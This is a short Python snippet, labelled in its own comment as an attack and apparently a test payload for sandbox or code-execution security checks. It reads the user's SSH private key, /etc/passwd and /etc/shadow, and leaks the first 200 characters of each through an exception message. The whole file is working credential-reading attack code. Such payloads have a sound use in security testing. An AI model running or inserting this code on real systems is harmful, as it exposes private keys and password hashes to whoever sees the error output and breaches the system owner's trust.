# Attack: read the user's SSH key and the machine's accounts, and show them in an error.
import contextlib

found = []
for path in ("__HOME__/.ssh/id_rsa", "/etc/passwd", "/etc/shadow"):
    text = ""
    with contextlib.suppress(OSError), open(path) as handle:
        text = handle.read()
    if "PRIVATE KEY" in text or "daemon:" in text or "root:$" in text:
        found.append(f"{path}: {text[:200]}")
if found:
    raise RuntimeError("read: " + " | ".join(found))
